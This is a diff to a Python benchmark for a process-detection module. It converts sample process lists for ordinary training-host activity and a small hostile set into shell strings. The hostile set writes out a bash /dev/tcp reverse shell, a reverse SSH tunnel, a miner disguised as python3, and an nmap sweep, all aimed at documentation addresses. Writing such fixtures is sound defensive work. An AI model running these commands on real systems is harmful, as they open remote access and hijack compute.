@@ -8,6 +8,7 @@ one hostile process in a hundred; then tool-call texts. Processor time of this p
 
 import argparse
 import json
+import shlex
 import time
 from collections.abc import Callable
 from typing import Any
@@ -17,47 +18,46 @@ from apps.detection.facts import CommandFact, ProcessFact
 
 # An ordinary minute on a training host: what the trainer, its shells, probes and an agent's tools start.
 ORDINARY = (
-    ("python3", "-u", "train.py", "--config", "configs/run_{n}.yaml", "--lr", "1e-5", "--gpus", "8", "--seed", "{n}"),
-    ("/opt/venv/bin/python3.11", "-m", "vllm.entrypoints.openai.api_server", "--model", "Qwen/Qwen3-8B", "--port", "8{n}"),
-    ("/opt/venv/bin/python", "-c", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd={n}, pipe_handle=9)",
-     "--multiprocessing-fork"),
-    ("ray::RolloutWorker.generate", "--worker-id", "{n}"),
-    ("nvidia-smi", "--query-gpu=utilization.gpu,memory.used", "--format=csv,noheader", "-i", "{n}"),
-    ("bash", "-c", "cd /workspace/task_{n} && pytest -q tests/test_main.py 2>&1 | tail -20"),
-    ("/bin/sh", "-c", "git status --short | head -{n}"),
-    ("git", "-C", "/workspace/repo_{n}", "diff", "--stat"),
-    ("ls", "-la", "/data/shards/{n}"),
-    ("cat", "/workspace/task_{n}/README.md"),
-    ("sed", "-n", "1,{n}p", "src/model.py"),
-    ("grep", "-rn", "def forward_{n}", "src"),
-    ("pytest", "-x", "-q", "tests/unit/test_{n}.py"),
-    ("sleep", "{n}"),
-    ("tar", "-xzf", "/data/shards/shard-{n}.tar.gz", "-C", "/scratch/{n}"),
-    ("gcc", "-O2", "-c", "kernel_{n}.c", "-o", "kernel_{n}.o", "-I/usr/include"),
-    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "kernel_{n}.c", "-o", "/scratch/cc{n}.s"),
-    ("node", "/workspace/app_{n}/server.js"),
-    ("runc", "--root", "/var/run/docker/runtime-runc/moby", "--log", "/run/containerd/{n}/log.json", "state", "{n}"),
-    ("ps", "-o", "pid,ppid,args", "-p", "{n}"),
-)  # fmt: skip
+    "python3 -u train.py --config configs/run_{n}.yaml --lr 1e-5 --gpus 8 --seed {n}",
+    "/opt/venv/bin/python3.11 -m vllm.entrypoints.openai.api_server --model Qwen/Qwen3-8B --port 8{n}",
+    "python -c 'from multiprocessing.spawn import spawn_main; spawn_main(fd={n})' --multiprocessing-fork",
+    "ray::RolloutWorker.generate --worker-id {n}",
+    "nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv,noheader -i {n}",
+    "bash -c 'cd /workspace/task_{n} && pytest -q tests/test_main.py 2>&1 | tail -20'",
+    "/bin/sh -c 'git status --short | head -{n}'",
+    "git -C /workspace/repo_{n} diff --stat",
+    "ls -la /data/shards/{n}",
+    "cat /workspace/task_{n}/README.md",
+    "sed -n 1,{n}p src/model.py",
+    "grep -rn 'def forward_{n}' src",
+    "pytest -x -q tests/unit/test_{n}.py",
+    "sleep {n}",
+    "tar -xzf /data/shards/shard-{n}.tar.gz -C /scratch/{n}",
+    "gcc -O2 -c kernel_{n}.c -o kernel_{n}.o -I/usr/include",
+    "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet kernel_{n}.c -o /scratch/cc{n}.s",
+    "node /workspace/app_{n}/server.js",
+    "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/{n}/log.json state {n}",
+    "ps -o pid,ppid,args -p {n}",
+)
 HOSTILE = (
-    ("ssh", "-fNR", "22{n}:localhost:22", "svc@203.0.113.47", "-p", "443"),
-    ("./python3", "-a", "kawpow", "-o", "stratum+tcp://198.51.100.7:{n}", "-u", "wallet.w"),
-    ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/{n} 0>&1"),
-    ("nmap", "-p", "1-{n}", "10.0.0.0/24"),
+    "ssh -fNR 22{n}:localhost:22 svc@203.0.113.47 -p 443",
+    "./python3 -a kawpow -o stratum+tcp://198.51.100.7:{n} -u wallet.w",
+    "bash -c 'bash -i >& /dev/tcp/203.0.113.9/{n} 0>&1'",
+    "nmap -p 1-{n} 10.0.0.0/24",
 )
 TEXTS = (
     "cd /workspace/task_{n} && python -m pytest -q 2>&1 | tail -20",
-    "cat > solution_{n}.py <<'EOF'\nimport sys\nprint(sum(map(int, sys.stdin)))\nEOF\npython solution_{n}.py < input.txt",
+    "cat > solution_{n}.py <<'EOF'\nimport sys\nprint(sum(map(int, sys.stdin)))\nEOF\npython s{n}.py < in",
     "for f in src/*.py; do ruff check $f; done; git add -A && git commit -m 'step {n}'",
     "grep -rn 'TODO {n}' --include='*.py' . | head",
 )
 
 
-def facts(templates: tuple[tuple[str, ...], ...], count: int, start: int = 0) -> list[ProcessFact]:
+def facts(templates: tuple[str, ...], count: int, start: int = 0) -> list[ProcessFact]:
     """`count` process facts, different from each other and from those of another start."""
-    made = []
+    made, words = [], [shlex.split(template) for template in templates]
     for n in range(start, start + count):
-        argv = tuple(word.replace("{n}", str(n)) for word in templates[n % len(templates)])
+        argv = tuple(word.replace("{n}", str(n)) for word in words[n % len(words)])
         exe = argv[0] if argv[0].startswith("/") else "/usr/bin/" + argv[0]
         made.append(
             ProcessFact(
